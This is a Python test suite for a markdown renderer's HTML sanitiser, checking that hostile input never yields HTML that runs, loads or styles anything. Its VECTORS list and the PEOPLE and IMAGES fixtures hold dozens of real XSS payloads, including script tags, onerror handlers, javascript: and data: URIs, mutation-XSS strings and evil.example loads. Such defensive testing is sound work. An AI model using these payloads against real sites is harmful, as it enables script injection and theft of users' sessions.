"""That no source, however hostile, becomes HTML that runs, loads or styles anything.

The judge is a list of its own, read by two parsers: Python's, and html5lib, which builds the tree a
browser would. No test here needs the database.
"""

import itertools
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from bleach._vendor import html5lib  # type: ignore[import-not-found]
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from content.markdown import (
    Flavour,
    ImageTarget,
    MentionTarget,
    TextRefused,
    _parse,
    excerpt,
    find_mentions,
    find_tags,
    render,
)
from content.markdown.clean import last_clean
from content.markdown.highlight import LANGUAGES

REL = "nofollow ugc noopener noreferrer"
HREF = re.compile(r"(?i)https?://|mailto:|/(?!/)|[^:/?#]*(?:$|[/?#])")
ALIGN = re.compile("align-(left|center|right)")
ALLOWED: dict[str, dict[str, re.Pattern[str]]] = {
    **{tag: {} for tag in ("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "pre")},
    **{tag: {} for tag in ("strong", "em", "del", "table", "thead", "tbody", "tr")},
    "a": {"href": HREF, "title": re.compile("(?s).*"), "rel": re.compile(REL),
          "class": re.compile("mention|tag")},
    "code": {"class": re.compile("language-[a-z]+")},
    "span": {"class": re.compile("[a-z][a-z0-9]{0,2}")},
    "ol": {"start": re.compile(r"\d{1,9}")},
    "li": {"class": re.compile("task( task-done)?")},
    "th": {"class": ALIGN},
    "td": {"class": ALIGN},
    "div": {"class": re.compile("table-scroll"), "tabindex": re.compile("0")},
}  # fmt: skip
_ID = re.compile(r"(section|note|note-ref)-[\w-]+")
_WORDS = re.compile("(?s).*")
ARTICLE_ALLOWED: dict[str, dict[str, re.Pattern[str]]] = {
    **ALLOWED,
    **{f"h{level}": {"id": _ID} for level in range(2, 7)},
    "figure": {},
    "figcaption": {},
    "a": {
        **ALLOWED["a"],
        "class": re.compile("mention|tag|note-back"),
        "id": _ID,
        "role": re.compile("doc-(noteref|backlink)"),
        "aria-label": _WORDS,
    },
    "div": {
        "class": re.compile("table-scroll|callout callout-[a-z]+"),
        "tabindex": re.compile("0"),
        "role": re.compile("region|note"),
        "aria-label": _WORDS,
    },
    "img": {
        "src": re.compile("/images/[2-9b-z]{16}/$"),
        "alt": _WORDS,
        "title": _WORDS,
        "width": re.compile(r"\d+$"),
        "height": re.compile(r"\d+$"),
        "loading": re.compile("lazy$"),
        "decoding": re.compile("async$"),
    },
    "li": {**ALLOWED["li"], "id": _ID},
    "p": {"class": re.compile("callout-title$")},
    "section": {
        "class": re.compile("footnotes$"),
        "role": re.compile("doc-endnotes$"),
        "aria-label": _WORDS,
    },
    "sup": {"class": re.compile("note-ref$")},
}
CAT = "2345678923456789"
IMAGES = {
    CAT: ImageTarget(f"/images/{CAT}/", 8, 6),
    "bcdfghjkbcdfghjk": ImageTarget('/images/"onerror="alert(1)/', 8, 6),
}
PEOPLE = {
    "ada": MentionTarget(url="/people/p1/", label="Ada Lovelace"),
    "evil": MentionTarget(url='/people/"onclick="x/', label='<img src=x onerror=alert(1)>"'),
    "worse": MentionTarget(url="javascript:alert(1)", label="Worse"),
}

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    'onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1) style=position:fixed>x</a>",
    "<p style='background:url(//evil.example)'>",
    "<style>@import '//evil.example'</style>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "</title></textarea></style></noscript></code></pre><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script>",
    "&amp;lt;script&amp;gt;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript&colon;alert(1)",
    " javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript\\:alert(1)",
    "java\u200bscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/'><script>alert(1)</script>",
    "//evil.example/%0d%0aSet-Cookie:a=b",
    "{{constructor.constructor('alert(1)')()}}",
    "$\\href{javascript:alert(1)}{x}$",
]  # fmt: skip
CONTEXTS = [
    "{}",
    "text {} text",
    "# {}",
    "- {}\n- [ ] {}",
    "1. {}\n\n   {}",
    "> {}\n> > {}",
    "| {} | b |\n|:-:|---|\n| c | {} |",
    "*{}* **{}** ~~{}~~",
    "`{}`",
    "```\n{}\n```",
    "```html\n{}\n```",
    "```{}\ncode\n```",
    "    {}",
    "[{}](https://x.example)",
    "[x]({})",
    "[x](<{}>)",
    "[x](https://x.example \"{}\")",
    "[x](https://x.example '{}')",
    "![{}](https://x.example/a.png)",
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n[1]: https://x.example \"{}\"",
    "[{}]\n\n[{}]: https://x.example",
    "<{}>",
    "<https://{}>",
    "https://x.example/{}",
    "www.{}",
    "@ada{} @evil{} @worse{}",
    "#tag{} #{}",
    "\\{} &#{};",
    "<div>{}</div>",
    "{}\n===\n{}\n---",
]  # fmt: skip


ARTICLE_CONTEXTS = [
    f"![{{}}](/images/{CAT}/)",
    f'![x](/images/{CAT}/ "{{}}")',
    f"a ![x](/images/{CAT}/ '{{}}') b",
    f'[![{{}}](/images/{CAT}/)](/y "{{}}")',
    f"[![x](/images/{CAT}/)]({{}})",
    "![{}](/images/bcdfghjkbcdfghjk/)",
    f'![x][1]\n\n[1]: /images/{CAT}/ "{{}}"',
    "![x](/images/{}/)",
    "# {}\n\n# {}",
    "x[^1] y[^{}]\n\n[^1]: {}\n[^{}]: {}",
    "> [!NOTE]\n> {}",
    "> [!{}]\n> x",
    "| {} | b |\n|:-:|---|\n| c[^1] | {} |\n\n[^1]: {}",
]


class _Collector(HTMLParser):
    """Every start tag and its attributes, as Python's parser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = _Collector()
    reader.feed(html)
    reader.close()
    assert not reader.other, "a comment or declaration"
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    browser: list[Any] = [element for element in tree.iter() if element is not tree]
    assert all(isinstance(element.tag, str) for element in browser)
    seen = [(element.tag, dict(element.attrib)) for element in browser]
    assert sorted(map(repr, seen)) == sorted(map(repr, reader.found)), "the parsers disagree"
    return reader.found


def assert_harmless(html: str, flavour: Flavour = "post") -> None:
    allowed = ARTICLE_ALLOWED if flavour == "article" else ALLOWED
    ids = []
    for tag, attributes in elements(html):
        assert tag in allowed, tag
        for name, value in attributes.items():
            assert name in allowed[tag], f"{name} on {tag}"
            assert allowed[tag][name].match(value or ""), f"{tag} {name}={value!r}"
            ids += [value] if name == "id" else []
        if tag == "a":
            href = attributes.get("href") or ""
            assert attributes.get("rel") == REL
            assert not re.match(r"(?i)[\s\x00-\x20]*(java|vb)script|data|file|blob:", href), href
    assert len(ids) == len(set(ids))
    assert last_clean(html, flavour) == html


@pytest.mark.parametrize("context", CONTEXTS)
def test_no_vector_runs_in_any_context(context: str) -> None:
    for vector in VECTORS:
        assert_harmless(render(context.replace("{}", vector), people=PEOPLE).html)


@pytest.mark.parametrize("context", [*CONTEXTS, *ARTICLE_CONTEXTS])
def test_no_vector_runs_in_an_article(context: str) -> None:
    for vector in VECTORS:
        source = context.replace("{}", vector)
        html = render(source, people=PEOPLE, images=IMAGES, flavour="article").html
        assert_harmless(html, "article")


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="https://evil.example/images/{CAT}/">',
        f'<img src="/images/{CAT}/?x">',
        f'<img src="/images/{CAT}/" onerror="x">',
        f'<img src="/images/{CAT}/" loading="eager">',
        f'<img src="/images/{CAT}/" width="100%">',
        '<h2 id="content-x">x</h2>',
        '<div role="dialog">x</div>',
        '<aside class="callout">x</aside>',
    ],
)
def test_the_last_word_on_articles(html: str) -> None:
    cleaned = last_clean(html, "article")
    assert cleaned != html
    assert_harmless(cleaned, "article")
    assert "<img" not in last_clean(html)


def test_the_corpus_is_large_enough() -> None:
    assert len(CONTEXTS) * len(VECTORS) >= 1_500
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        '<p onclick="x">',
        '<a href="javascript:x" rel="nofollow ugc noopener noreferrer">x</a>',
        '<a href="/x">no rel</a>',
        '<p style="color:red">x</p>',
        '<img src="/x">',
        '<p class="x">x</p>',
        "<!-- x --><p></p>",
        "<svg></svg>",
    ],
)
def test_the_judge_itself_refuses(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_harmless(html)


def test_a_label_or_address_of_a_person_cannot_break_out() -> None:
    html = render("@evil @worse", people=PEOPLE).html
    assert_harmless(html)
    assert "@worse</p>" in html
    assert "&lt;img src=x" in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_coloured_code_is_escaped(language: str) -> None:
    code = "\n".join(vector for vector in VECTORS if "\t" not in vector)[:1_400]
    html = render(f"```{language}\n{code}\n```").html
    assert_harmless(html)
    assert "<script" not in html


PIECES = st.sampled_from(
    [
        "*", "**", "_", "~~", "`", "```", "```py\n", "[", "]", "](", ")", "![", "<", ">", "> ", "&",
        "&lt;", "&#106;", "\\", "|", "|-|-|\n", "- ", "1. ", "    ", "\n", "\n\n", "# ", "#tag",
        "#x_ ", "@ada", "@Bob.B ", "@evil", "http://a.b/", "www.c.d", "<http://e>", "<a@b.c>",
        "a", "Word ", "é", "\u0301", "[x](/y)", "[r]", "[r]: /z\n", "'", '"', "javascript:",
        "<script>", "onclick=", "---\n", "===\n", "[ ] ", "[x] ", "\t", "(", "😀", "\u202e", ":",
        "!", ";", "--",
    ]
)  # fmt: skip
TEXTS = st.one_of(
    st.lists(PIECES, max_size=60).map("".join),
    st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=30).map("".join),
    st.text(max_size=200),
)
often = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))


def rendered(source: str) -> str | None:
    try:
        return str(render(source, people=PEOPLE).html)
    except TextRefused:
        return None


@often
@given(TEXTS)
def test_whatever_is_written_is_harmless(source: str) -> None:
    html = rendered(source)
    if html is not None:
        assert_harmless(html)


ARTICLE_PIECES = st.sampled_from(
    [
        "[^1]", "[^a]", "[^1]: x\n", "\n[^a]: y\n", "    z\n", "> [!NOTE]\n", "> [!TIP]\n> ", "![",
        f"](/images/{CAT}/)", f"![x](/images/{CAT}/)", f"\n\n![](/images/{CAT}/ 'c')\n\n", "# ",
        "\n# A\n", "\n## A-2\n", "|a|b|\n|-|-|\n|", "]: ", "[!", "^",
        "![u](/images/bcdfghjkbcdfghjk/)",
    ]
)  # fmt: skip
ARTICLES = st.lists(st.one_of(ARTICLE_PIECES, PIECES), max_size=60).map("".join)


@often
@given(ARTICLES)
def test_whatever_is_written_in_an_article_is_harmless(source: str) -> None:
    result = render(source, people=PEOPLE, images=IMAGES, flavour="article")
    assert_harmless(result.html, "article")
    assert not set("\x02\x03\x04\x05") & set(result.html + result.text)
    ids = {attributes.get("id") for _tag, attributes in elements(result.html)}
    assert {heading.id for heading in result.contents} <= ids
    for _tag, attributes in elements(result.html):
        if (attributes.get("role") or "").startswith("doc-") and "href" in attributes:
            assert (attributes["href"] or "")[1:] in ids


@often
@given(ARTICLES)
def test_an_article_says_what_a_post_says_where_neither_has_extras(source: str) -> None:
    # Without what begins a footnote, a picture, a callout and a heading.
    plain = re.sub(r"[\^!#]", "", source)
    if "<blockquote>" not in (html := rendered(plain) or ""):
        article = render(plain, people=PEOPLE, flavour="article").html
        frame = re.compile(r' role="region" aria-label="Table \d+"')
        assert frame.sub("", article) == html


@often
@given(TEXTS)
def test_rendering_twice_gives_the_same(source: str) -> None:
    first = rendered(source)
    _parse.cache_clear()
    assert rendered(source) == first


@often
@given(TEXTS)
def test_what_is_found_is_what_is_linked(source: str) -> None:
    try:
        handles, tags = find_mentions(source), find_tags(source)
    except TextRefused:
        assert rendered(source) is None
        return
    people = {handle: MentionTarget(url=f"/people/{handle}/", label=handle) for handle in handles}
    result = render(source, people=people)
    found = elements(result.html)
    mentions = [a["href"] for tag, a in found if tag == "a" and a.get("class") == "mention"]
    linked = [a["href"] for tag, a in found if tag == "a" and a.get("class") == "tag"]
    assert list(dict.fromkeys(mentions)) == [f"/people/{handle}/" for handle in handles]
    assert len(dict.fromkeys(linked)) == len(tags)
    assert (result.mentions, result.tags) == (handles, tags)
    assert all(re.fullmatch(r"[a-z0-9](?:[a-z0-9._-]*[a-z0-9])?", handle) for handle in handles)
    assert not set("\x02\x03") & set(result.html + result.text)


@often
@given(TEXTS, st.integers(1, 200))
def test_excerpts_fit_and_stand_on_one_line(source: str, length: int) -> None:
    cut = excerpt(source, length)
    assert len(cut) <= length
    assert "\n" not in cut
    assert " ".join(source.split()).startswith(cut.removesuffix("…").rstrip(" .,;:-"))


@often
@given(st.lists(st.sampled_from(["word", "two", "x1", "42"]), min_size=1, max_size=40))
def test_plain_words_survive_unchanged(words: list[str]) -> None:
    line = " ".join(words)
    result = render("\n\n".join(itertools.repeat(line, 3)))
    assert result.html == f"<p>{line}</p>" * 3
    assert result.text == "\n".join([line] * 3)
